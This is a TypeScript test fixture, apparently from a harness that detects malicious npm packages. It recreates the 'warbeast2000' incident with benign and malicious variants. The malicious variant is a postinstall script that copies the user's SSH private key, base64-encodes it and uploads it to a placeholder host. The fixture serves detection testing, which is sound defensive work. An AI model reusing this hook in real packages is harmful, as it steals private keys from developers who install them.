import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'warbeast2000',
  after: 'warbeast2000 and kodiak2k, January 2024',
  source: 'https://www.reversinglabs.com/blog/gitgot-cybercriminals-using-github-to-store-stolen-data',
  shape: ['install', 'npm install', 'esm script', 'copy in its own folder', 'code host as a drop'],
  patterns: ['data_exfiltration'],
  culprits: ['beast-box'],
  host: { kind: 'npm', npm: 'install', setup: '', use: '' },
  good: {
    'beast-box': {
      'index.js': 'exports.box = (n) => [n];',
      'package.json': '{"scripts":{"postinstall":"node after.mjs"}}',
      'after.mjs': "import { readFileSync } from 'node:fs'; readFileSync(new URL('package.json', import.meta.url));",
    },
  },
  benign: {
    'beast-box': {
      'after.mjs':
        "import { readFileSync } from 'node:fs'; JSON.parse(readFileSync(new URL('package.json', import.meta.url), 'utf8'));",
    },
  },
  bad: {
    'beast-box': {
      'after.mjs': `import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';
const copy = new URL('target.txt', import.meta.url);
fs.copyFileSync(path.join(os.homedir(), '.ssh/id_ed25519'), copy);
const content = fs.readFileSync(copy).toString('base64');
await fetch('http://@A@:@PORT@/repos/box/store/contents/' + os.userInfo().username, { method: 'PUT', body: JSON.stringify({ message: 'add', content }) }).catch(() => {});`,
    },
  },
  proof: [{ arrives: '/contents/', leaks: true }],
};
